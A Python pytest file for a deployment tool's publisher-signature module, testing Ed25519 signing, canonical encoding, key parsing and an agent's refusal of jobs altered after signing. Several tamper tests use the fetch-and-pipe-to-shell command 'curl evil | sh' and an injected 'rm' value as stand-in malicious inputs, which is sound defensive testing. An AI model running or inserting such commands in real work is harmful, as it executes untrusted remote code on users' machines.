"""Publisher signatures (oco.domain.signing): the canonical encoding, signing and verifying, keys and key
ids, and the agent's check of a job against the publishers it trusts."""

from __future__ import annotations

import base64
import dataclasses
import hashlib
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.rsa import generate_private_key
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from hypothesis import given
from hypothesis import strategies as st

from oco.domain.dispatch import PayloadDigest, payload_from_wire, wire_payload
from oco.domain.errors import InvalidPublisherKey, InvalidSigningKey
from oco.domain.signing import (
    FIELD_NAMES,
    JobClaim,
    PublisherKey,
    SignatureStatus,
    SignedFields,
    SigningKey,
    TrustPolicy,
    canonical_encoding,
    fields_from_texts,
    parse_key_id,
    parse_public_key,
    parse_wire_signature,
    signature_problem,
    signature_status,
    signing_key_from_pem,
    trust_policy,
    verify,
    wire_signature,
)
from oco.domain.states import PostAction

SHA = hashlib.sha256(b"payload").hexdigest()
FIELDS = SignedFields(
    version="1.2",
    install_procedure="./install.sh --quiet",
    install_success_codes="0,3010",
    install_post_action=PostAction.RESTART,
    uninstall_procedure="./uninstall.sh",
    uninstall_success_codes="0",
    uninstall_post_action=PostAction.NONE,
    payload_sha256=SHA,
)
# A fixed key (32 bytes of seed) so the encoding and signature below are reproducible.
FIXED = SigningKey(Ed25519PrivateKey.from_private_bytes(bytes(range(32))))
PUBLISHER = SigningKey(Ed25519PrivateKey.generate())
OTHER = SigningKey(Ed25519PrivateKey.generate())


# The canonical encoding ----------------------------------------------------------------------------


def test_the_encoding_is_the_documented_one() -> None:
    assert canonical_encoding(FIELDS) == (
        b"oco-deploy package signature 1\n"
        b"version 3\n1.2\n"
        b"install-procedure 20\n./install.sh --quiet\n"
        b"install-success-codes 6\n0,3010\n"
        b"install-post-action 7\nrestart\n"
        b"uninstall-procedure 14\n./uninstall.sh\n"
        b"uninstall-success-codes 1\n0\n"
        b"uninstall-post-action 4\nnone\n"
        b"payload-sha256 64\n" + SHA.encode() + b"\n"
    )


def test_lengths_count_utf8_bytes_and_no_payload_is_empty() -> None:
    fields = dataclasses.replace(FIELDS, version="é", payload_sha256="")
    encoded = canonical_encoding(fields)
    assert b"version 2\n\xc3\xa9\n" in encoded and encoded.endswith(b"payload-sha256 0\n\n")


def test_a_value_holding_what_looks_like_the_next_field_is_not_confused_with_it() -> None:
    tricky = dataclasses.replace(FIELDS, version="1.2\ninstall-procedure 3\nrm", install_procedure="x")
    plain = dataclasses.replace(FIELDS, version="1.2", install_procedure="rm\ninstall-procedure 1\nx")
    assert canonical_encoding(tricky) != canonical_encoding(plain)


def test_a_signature_by_a_fixed_key_is_this_test_vector() -> None:
    """For anyone writing a verifier of their own: seed bytes 0..31, FIELDS above."""
    signature = FIXED.sign(FIELDS)
    assert FIXED.public.text == "ed25519:A6EHv/POEL4dcN0Y50vAmWfk1jCbpQ1fHdyGZBJVMbg="
    assert FIXED.public.key_id == "56475aa75463474c" == hashlib.sha256(FIXED.public.raw).hexdigest()[:16]
    assert signature.signature == (
        "h9exMDglZxuKmYTCa5Jw4ml03KA13eakkYW5JZpBY4XobV0fW+nQCtDMJdJzwCdY7PrOYlmVVCa20EihmFgNDQ=="
    )
    assert (signature.key_id, signature.public_key) == (FIXED.public.key_id, FIXED.public.text)
    assert verify(FIELDS, signature.signature, FIXED.public)


# Sign and verify -----------------------------------------------------------------------------------

texts = st.text(max_size=40)
post_actions = st.sampled_from(list(PostAction))
shas = st.one_of(st.just(""), st.binary(min_size=1, max_size=8).map(lambda b: hashlib.sha256(b).hexdigest()))
signed_fields = st.builds(
    SignedFields,
    version=texts,
    install_procedure=texts,
    install_success_codes=texts,
    install_post_action=post_actions,
    uninstall_procedure=texts,
    uninstall_success_codes=texts,
    uninstall_post_action=post_actions,
    payload_sha256=shas,
)
FIELD_ATTRIBUTES = [f.name for f in dataclasses.fields(SignedFields)]


@given(signed_fields)
def test_a_signature_verifies_for_exactly_what_was_signed(fields: SignedFields) -> None:
    signature = PUBLISHER.sign(fields)
    assert verify(fields, signature.signature, PUBLISHER.public)
    assert not verify(fields, signature.signature, OTHER.public)
    assert fields_from_texts(fields.texts()) == fields  # the wire keeps every field as it was


def _changed(value: Any, replacement: Any) -> Any:
    if isinstance(value, PostAction):
        return PostAction((int(value) + 1) % len(PostAction))
    if value == replacement:
        return replacement + "x"
    return replacement


@given(signed_fields, st.sampled_from(FIELD_ATTRIBUTES), texts)
def test_any_change_of_a_signed_field_invalidates_the_signature(
    fields: SignedFields, attribute: str, replacement: str
) -> None:
    signature = PUBLISHER.sign(fields)
    if attribute == "payload_sha256":
        replacement = hashlib.sha256(replacement.encode() + fields.payload_sha256.encode()).hexdigest()
    changed = dataclasses.replace(fields, **{attribute: _changed(getattr(fields, attribute), replacement)})
    assert changed != fields
    assert canonical_encoding(changed) != canonical_encoding(fields)
    assert not verify(changed, signature.signature, PUBLISHER.public)


@given(signed_fields, st.integers(min_value=0, max_value=63), st.integers(min_value=1, max_value=255))
def test_any_changed_byte_of_the_signature_invalidates_it(fields: SignedFields, index: int, xor: int) -> None:
    raw = bytearray(base64.b64decode(PUBLISHER.sign(fields).signature))
    raw[index] ^= xor
    assert not verify(fields, base64.b64encode(bytes(raw)).decode(), PUBLISHER.public)


@pytest.mark.parametrize("signature", ["", "not base64!", base64.b64encode(b"short").decode(), "A" * 200])
def test_a_malformed_signature_does_not_verify(signature: str) -> None:
    assert not verify(FIELDS, signature, PUBLISHER.public)


def test_the_stored_status_is_judged_again_against_the_fields() -> None:
    signature = PUBLISHER.sign(FIELDS)
    assert signature_status(FIELDS, None, None) is SignatureStatus.UNSIGNED
    assert signature_status(FIELDS, signature.signature, signature.public_key) is SignatureStatus.VALID
    edited = dataclasses.replace(FIELDS, install_procedure="curl evil | sh")
    assert signature_status(edited, signature.signature, signature.public_key) is SignatureStatus.INVALID
    assert signature_status(FIELDS, signature.signature, "ed25519:broken") is SignatureStatus.INVALID
    assert signature_status(FIELDS, signature.signature, OTHER.public.text) is SignatureStatus.INVALID


# Keys ----------------------------------------------------------------------------------------------


def test_a_public_key_is_written_and_read_back() -> None:
    key = PUBLISHER.public
    assert key.text.startswith("ed25519:") and parse_public_key(f"  {key.text} ") == key
    assert len(key.key_id) == 16 and parse_key_id(key.key_id.upper()) == key.key_id
    assert parse_key_id(key.text) == key.key_id


@pytest.mark.parametrize(
    "text",
    [
        "",
        "ssh-ed25519 AAAA",
        "ed25519:",
        "ed25519:not-base64",
        "ed25519:" + base64.b64encode(b"x" * 31).decode(),
    ],
)
def test_a_malformed_public_key_is_refused_with_its_text(text: str) -> None:
    with pytest.raises(InvalidPublisherKey, match="public key"):
        parse_public_key(text, field="trusted_publishers")


@pytest.mark.parametrize("text", ["", "abc", "g" * 16, "0" * 15, "0" * 17])
def test_a_malformed_key_id_is_refused(text: str) -> None:
    with pytest.raises(InvalidPublisherKey, match="key id"):
        parse_key_id(text)


def test_a_private_key_round_trips_through_pem_with_and_without_a_passphrase() -> None:
    assert signing_key_from_pem(PUBLISHER.to_pem()).public == PUBLISHER.public
    encrypted = PUBLISHER.to_pem(b"secret")
    assert b"ENCRYPTED" in encrypted
    assert signing_key_from_pem(encrypted, b"secret").public == PUBLISHER.public
    with pytest.raises(InvalidSigningKey, match="cannot be opened"):
        signing_key_from_pem(encrypted)
    with pytest.raises(InvalidSigningKey, match="wrong passphrase"):
        signing_key_from_pem(encrypted, b"wrong")


def test_a_key_file_that_is_no_ed25519_private_key_is_refused() -> None:
    rsa = generate_private_key(public_exponent=65537, key_size=1024)
    with pytest.raises(InvalidSigningKey, match="RSAPrivateKey, not an Ed25519 key"):
        signing_key_from_pem(rsa.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
    with pytest.raises(InvalidSigningKey, match="not a PEM private key"):
        signing_key_from_pem(b"ed25519:" + PUBLISHER.public.text.encode())


# The wire ------------------------------------------------------------------------------------------


def test_the_wire_signature_carries_key_id_signature_and_fields() -> None:
    signature = PUBLISHER.sign(FIELDS)
    wire = wire_signature(signature.key_id, signature.signature, FIELDS)
    assert set(wire) == {"key-id", "signature", "fields"} and tuple(wire["fields"]) == FIELD_NAMES
    parsed = parse_wire_signature(wire)
    assert (parsed.key_id, parsed.signature, parsed.fields) == (signature.key_id, signature.signature, FIELDS)


@pytest.mark.parametrize(
    "change",
    [
        lambda w: "text",
        lambda w: {**w, "key-id": 7},
        lambda w: {k: v for k, v in w.items() if k != "signature"},
        lambda w: {**w, "fields": None},
        lambda w: {**w, "fields": {**w["fields"], "version": 1}},
        lambda w: {**w, "fields": {k: v for k, v in w["fields"].items() if k != "payload-sha256"}},
        lambda w: {**w, "fields": {**w["fields"], "payload-sha256": "ABC"}},
        lambda w: {**w, "fields": {**w["fields"], "install-post-action": "reboot"}},
    ],
)
def test_a_malformed_wire_signature_is_refused(change: Any) -> None:
    signature = PUBLISHER.sign(FIELDS)
    with pytest.raises(InvalidPublisherKey):
        parse_wire_signature(change(wire_signature(signature.key_id, signature.signature, FIELDS)))


def test_the_payload_keys_of_a_job() -> None:
    assert wire_payload(None, None) == {}
    assert wire_payload(SHA, 7) == {"payload-sha256": SHA, "payload-size": 7}
    assert payload_from_wire({"payload-sha256": SHA.upper(), "payload-size": 7}) == PayloadDigest(SHA, 7)
    for bad in ({}, {"payload-sha256": "ab", "payload-size": 7}, {"payload-sha256": SHA, "payload-size": -1}):
        assert payload_from_wire(bad) is None
    assert payload_from_wire({"payload-sha256": SHA, "payload-size": True}) is None
    assert payload_from_wire("job") is None


# The agent's check ---------------------------------------------------------------------------------


def claim(fields: SignedFields = FIELDS, key: SigningKey = PUBLISHER, **changes: Any) -> JobClaim:
    """An install job as our server sends it for a package signed by `key` (None: unsigned)."""
    signature = key.sign(fields)
    values: dict[str, Any] = {
        "action": "install",
        "procedure": fields.install_procedure,
        "download": bool(fields.payload_sha256),
        "payload_sha256": fields.payload_sha256 or None,
        "post_actions": frozenset({fields.install_post_action} - {PostAction.NONE}),
        "signature": wire_signature(signature.key_id, signature.signature, fields),
    }
    values.update(changes)
    return JobClaim(**values)


PINNED = TrustPolicy(trusted=(PUBLISHER.public,))


def test_without_pins_every_job_may_run() -> None:
    assert signature_problem(TrustPolicy(), claim(signature=None)) is None
    assert signature_problem(TrustPolicy(revoked=frozenset({PUBLISHER.public.key_id})), claim()) is None


def test_a_job_signed_by_a_trusted_key_may_run() -> None:
    assert signature_problem(PINNED, claim()) is None
    uninstall = claim(action="uninstall", procedure=FIELDS.uninstall_procedure, post_actions=frozenset())
    assert signature_problem(PINNED, uninstall) is None


def test_a_shutdown_the_server_adds_for_a_woken_computer_is_allowed() -> None:
    assert signature_problem(PINNED, claim(post_actions=frozenset({PostAction.SHUTDOWN}))) is None


def test_a_job_without_payload_signed_without_payload_may_run() -> None:
    fields = dataclasses.replace(FIELDS, payload_sha256="")
    assert signature_problem(PINNED, claim(fields)) is None


@pytest.mark.parametrize(
    ("job", "reason"),
    [
        (claim(signature=None), "not signed"),
        (claim(key=OTHER), "does not trust"),
        (claim(signature={"key-id": "zz"}), "malformed signature"),
        (claim(signature="garbage"), "malformed signature"),
        (claim(procedure="curl evil | sh"), "not the signed install procedure"),
        (claim(procedure=FIELDS.uninstall_procedure), "not the signed install procedure"),
        (claim(action="uninstall"), "not the signed uninstall procedure"),
        (claim(action="purge"), "neither install nor uninstall"),
        (claim(action=None), "neither install nor uninstall"),
        (claim(payload_sha256="0" * 64), "not the signed payload"),
        (claim(download=False, payload_sha256=None), "not the signed payload"),
        (claim(post_actions=frozenset({PostAction.EXIT_AGENT})), "post-action (exit)"),
        (
            claim(post_actions=frozenset({PostAction.RESTART, PostAction.SHUTDOWN})),
            "post-action (restart, shutdown)",
        ),
    ],
)
def test_a_job_that_is_not_what_was_signed_is_refused(job: JobClaim, reason: str) -> None:
    problem = signature_problem(PINNED, job)
    assert problem is not None and reason in problem


def test_a_download_for_a_package_signed_without_payload_is_refused() -> None:
    fields = dataclasses.replace(FIELDS, payload_sha256="")
    problem = signature_problem(PINNED, claim(fields, download=True, payload_sha256=SHA))
    assert problem == "the job's payload is not the signed payload"


def test_fields_changed_after_signing_are_refused() -> None:
    job = claim()
    job.signature["fields"]["install-procedure"] = "curl evil | sh"
    problem = signature_problem(PINNED, dataclasses.replace(job, procedure="curl evil | sh"))
    assert problem is not None and "does not match the package's fields" in problem


def test_a_revoked_key_is_refused_even_while_trusted() -> None:
    policy = trust_policy([PUBLISHER.public.text], [PUBLISHER.public.key_id])
    problem = signature_problem(policy, claim())
    assert problem == f"signed with key {PUBLISHER.public.key_id}, which this agent has revoked"


def test_rotation_trusts_the_new_key_beside_the_old_then_revokes_the_old() -> None:
    new = SigningKey(Ed25519PrivateKey.generate())
    both = trust_policy([PUBLISHER.public.text, new.public.text])
    assert signature_problem(both, claim()) is None
    assert signature_problem(both, claim(key=new)) is None
    old_revoked = trust_policy([PUBLISHER.public.text, new.public.text], [PUBLISHER.public.text])
    assert signature_problem(old_revoked, claim(key=new)) is None
    assert "revoked" in (signature_problem(old_revoked, claim()) or "")


def test_a_policy_whose_every_key_is_revoked_still_pins() -> None:
    policy = trust_policy([PUBLISHER.public.text], [PUBLISHER.public.key_id])
    assert policy.pins and policy.key(PUBLISHER.public.key_id) is None
    assert signature_problem(policy, claim(signature=None)) == "the package is not signed"


def test_a_bad_entry_of_the_policy_is_named_with_its_setting() -> None:
    with pytest.raises(InvalidPublisherKey) as trusted:
        trust_policy(["ed25519:nope"])
    assert trusted.value.field == "trusted_publishers"
    with pytest.raises(InvalidPublisherKey) as revoked:
        trust_policy([], ["nope"])
    assert revoked.value.field == "revoked_publishers"


@given(signed_fields, st.sampled_from(FIELD_ATTRIBUTES), texts)
def test_a_pinning_agent_refuses_any_field_changed_after_signing(
    fields: SignedFields, attribute: str, replacement: str
) -> None:
    """What a compromised server would do: change a stored field and send the job as it now is."""
    job = claim(fields)
    if attribute == "payload_sha256":
        replacement = hashlib.sha256(replacement.encode() + fields.payload_sha256.encode()).hexdigest()
    tampered = dataclasses.replace(fields, **{attribute: _changed(getattr(fields, attribute), replacement)})
    forged = {**job.signature, "fields": tampered.texts()}
    honest_claim = claim(tampered)  # the job as the server builds it from the tampered fields
    problem = signature_problem(PINNED, dataclasses.replace(honest_claim, signature=forged))
    assert problem is not None and "does not match" in problem


def test_publisher_key_equality_is_by_bytes() -> None:
    assert PublisherKey(PUBLISHER.public.raw) == PUBLISHER.public
